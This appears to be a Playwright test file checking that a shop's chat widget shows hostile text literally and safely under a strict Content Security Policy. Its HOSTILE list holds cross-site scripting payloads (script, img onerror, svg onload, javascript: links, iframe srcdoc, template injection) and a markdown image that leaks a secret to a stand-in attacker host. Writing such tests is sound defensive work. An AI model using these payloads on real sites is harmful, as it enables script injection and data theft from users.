"""Text is text: hostile words, in every place where the server may put some, under a strict CSP."""

import pytest
from playwright.sync_api import Page, expect

from sandbox.shop.shop import ShopPage
from tests.unit.widget.fake_chat import FakeChat
from tests.unit.widget.seen import Seen

HOSTILE = (
    "<img src=x onerror=\"document.title='owned'\">",
    "<script>document.title='owned'</script>",
    "</script><script>document.title='owned'</script>",
    "<svg onload=\"document.title='owned'\"><animate onbegin=\"document.title='owned'\"></svg>",
    "javascript:document.title='owned'",
    "[click me](javascript:document.title='owned')",
    "![pixel](https://attacker.example/?secret)",
    "<a href=\"javascript:document.title='owned'\">click</a>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "{{constructor.constructor('document.title=1')()}} ${document.title='owned'}",
    "\u202etxt.exe\u2066 &lt;b&gt; &amp; <!--",
)
TITLE = "Fern & Oak: things for a calm home"


@pytest.fixture
def violations(page: Page) -> list[str]:
    """Everything that the page's policy refused, and every dialog that opened."""
    found: list[str] = []
    page.on("console", lambda message: found.append(message.text))
    page.on("dialog", lambda dialog: found.append(dialog.message))
    page.add_init_script(
        "addEventListener('securitypolicyviolation', event =>"
        " console.error(`refused ${event.violatedDirective} ${event.blockedURI}`))"
    )
    return found


@pytest.mark.bad_input(41)
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_words_are_shown_as_they_are_and_do_nothing(
    chat: FakeChat, violations: list[str], seen: Seen, text: str
) -> None:
    seen.until(lambda: chat.sockets.count == 1)
    asked: list[str] = []
    seen.page.on("request", lambda request: asked.append(request.url))

    chat.become("with_agent", agent_name=text)
    chat.say(text)
    chat.say(text, kind="notice")
    chat.say(text, role="agent", name=text)
    seen.send(text)
    chat.push({"type": "draft", "turn": "t", "text": text})
    chat.push({"type": "conversation", "conversation": {"state": "bot", "agent_name": text}})

    seen.shows(text, text, text, text)
    assert seen.log.locator("a, img, script, svg, iframe").count() == 0
    assert seen.page.title() == TITLE
    assert [url for url in asked if not url.startswith(f"{chat.url}/chat/")] == []
    assert violations == []
    assert seen.problems == []


@pytest.mark.bad_input(41)
def test_the_widget_works_under_the_shops_strict_policy(
    chat: FakeChat, violations: list[str], seen: Seen
) -> None:
    policy = seen.page.request.get(seen.page.url).headers["content-security-policy"]
    seen.until(lambda: chat.sockets.count == 1)
    seen.send("hello")
    seen.shows("hello")

    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert "require-trusted-types-for 'script'" in policy
    assert violations == []


def test_the_policy_of_the_shop_would_have_stopped_an_inline_script(
    violations: list[str], page: Page, shop: ShopPage
) -> None:
    page.goto(shop.url)

    page.evaluate(
        "document.body.append(Object.assign(document.createElement('img'),"
        " {src: 'https://attacker.example/x'}))"
    )

    expect(page).to_have_title(TITLE)
    assert any("refused img-src" in violation for violation in violations)


def test_lines_and_spaces_of_a_message_are_kept(chat: FakeChat, seen: Seen) -> None:
    seen.until(lambda: chat.sockets.count == 1)

    chat.say("1. Open\n2. Press   return")

    expect(seen.bubbles).to_have_css("white-space", "pre-wrap")
    assert seen.bubbles.text_content() == "1. Open\n2. Press   return"
